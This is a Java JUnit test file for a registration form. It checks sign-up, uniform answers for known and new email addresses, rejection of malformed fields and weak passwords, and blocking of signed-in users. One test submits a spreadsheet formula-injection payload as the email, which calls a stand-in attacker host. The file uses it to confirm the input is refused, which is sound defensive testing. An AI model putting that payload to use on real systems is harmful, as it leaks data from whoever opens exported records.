package com.researchbridge.security.ui;

import static org.assertj.core.api.Assertions.assertThat;

import com.researchbridge.base.Country;
import com.researchbridge.base.UiLanguage;
import com.researchbridge.institution.InstitutionSummary;
import com.researchbridge.testsupport.DemoAccounts;
import com.researchbridge.testsupport.ViewTest;
import com.vaadin.flow.component.Component;
import com.vaadin.flow.component.button.Button;
import com.vaadin.flow.component.combobox.ComboBox;
import com.vaadin.flow.component.radiobutton.RadioButtonGroup;
import com.vaadin.flow.component.textfield.EmailField;
import com.vaadin.flow.component.textfield.PasswordField;
import com.vaadin.flow.component.textfield.TextField;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.test.context.support.WithAnonymousUser;
import org.springframework.security.test.context.support.WithUserDetails;

class RegistrationViewTest extends ViewTest {

    @Autowired
    JdbcTemplate jdbc;

    private long accounts() {
        return jdbc.queryForObject("select count(*) from user_account", Long.class);
    }

    @SuppressWarnings("unchecked")
    private void fill(String name, String email, String password, Country country, String institutionCode) {
        test(find(TextField.class).single()).setValue(name);
        test(find(EmailField.class).single()).setValue(email);
        test(find(PasswordField.class).single()).setValue(password);
        RadioButtonGroup<Country> countries = find(RadioButtonGroup.class).single();
        countries.setValue(country);
        ComboBox<InstitutionSummary> institutions = find(ComboBox.class).single();
        institutions.setValue(test(institutions).getSuggestionItems().stream()
                .filter(i -> i.code().equals(institutionCode)).findFirst().orElseThrow());
    }

    private void submit() {
        test(find(Button.class).id("register-submit")).click();
    }

    @Test
    @WithAnonymousUser
    void aResearcherRegistersAndIsSentToLogIn() {
        navigate(RegistrationView.class);
        fill("Ержан Тұрсынов", "yerzhan.tursynov@enu.kz", "steppe-wind-Astana-1997", Country.KZ, "KZ-ENU");
        submit();
        assertThat(getCurrentView()).isInstanceOf(LoginView.class);
        assertThat(jdbc.queryForObject("select count(*) from user_account where email = 'yerzhan.tursynov@enu.kz'", Long.class)).isEqualTo(1);
    }

    private java.util.Map<String, Object> accountRow(String email) {
        return jdbc.queryForMap("select full_name, password_hash, institution_id, enabled, version from user_account"
                + " where email = ?", email);
    }

    @Test
    @WithAnonymousUser
    void aKnownAddressGetsExactlyTheAnswerOfANewOneAndTheAccountIsUntouched() {
        navigateInLocale(UiLanguage.RU.locale(), RegistrationView.class);
        fill("Иван Петров", "ivan.petrov.new@kaznu.kz", "steppe-wind-Astana-1997", Country.KZ, "KZ-KAZNU");
        submit();
        assertThat(getCurrentView()).isInstanceOf(LoginView.class);
        String answerForNew = viewText();

        var known = accountRow(DemoAccounts.RESEARCHER_KZ);
        long before = accounts();
        navigateInLocale(UiLanguage.RU.locale(), RegistrationView.class);
        fill("Иван Петров", DemoAccounts.RESEARCHER_KZ.toUpperCase(), "steppe-wind-Astana-1997", Country.KZ, "KZ-KAZNU");
        submit();

        assertThat(getCurrentView()).isInstanceOf(LoginView.class);
        assertThat(viewText()).isEqualTo(answerForNew).contains("проверьте электронную почту").doesNotContain("уже");
        assertThat(accounts()).isEqualTo(before);
        assertThat(accountRow(DemoAccounts.RESEARCHER_KZ)).isEqualTo(known);
    }

    @Test
    @WithAnonymousUser
    void aFormulaForAnAddressIsRefusedInTheUsersLanguageAndNothingIsStored() {
        navigateInLocale(UiLanguage.ZH.locale(), RegistrationView.class);
        long before = accounts();
        fill("Mallory", "=hyperlink(\"http://evil.example/?leak\")@x.kz", "steppe-wind-Astana-1997", Country.KZ, "KZ-KAZNU");
        submit();
        var email = find(EmailField.class).single();
        assertThat(email.isInvalid()).isTrue();
        assertThat(email.getErrorMessage()).isEqualTo("请输入电子邮箱地址，例如 name@university.edu.cn。");
        assertThat(accounts()).isEqualTo(before);
        assertThat(getCurrentView()).isInstanceOf(RegistrationView.class);
    }

    @Test
    @WithAnonymousUser
    void emptyAndMalformedFieldsAreMarkedAndNothingIsStored() {
        navigate(RegistrationView.class);
        long before = accounts();
        test(find(EmailField.class).single()).setValue("no-at-sign");
        submit();
        assertThat(find(TextField.class).single().isInvalid()).isTrue();
        assertThat(find(EmailField.class).single().isInvalid()).isTrue();
        assertThat(find(PasswordField.class).single().isInvalid()).isTrue();
        assertThat(accounts()).isEqualTo(before);
        assertThat(getCurrentView()).isInstanceOf(RegistrationView.class);
    }

    @Test
    @WithAnonymousUser
    void aWeakPasswordIsRefused() {
        navigate(RegistrationView.class);
        fill("李明", "li.ming@pku.edu.cn", "password123", Country.CN, "CN-PKU");
        submit();
        var password = find(PasswordField.class).single();
        assertThat(password.isInvalid()).isTrue();
        assertThat(password.getErrorMessage()).contains("too easy to guess");
    }

    @Test
    @WithUserDetails(DemoAccounts.ADMIN)
    void signedInUsersCannotOpenTheRegistrationForm() {
        navigate("register", Component.class);
        assertThat(getCurrentView().getClass().getSimpleName()).startsWith("AdminDashboardView"); // sent home
    }
}
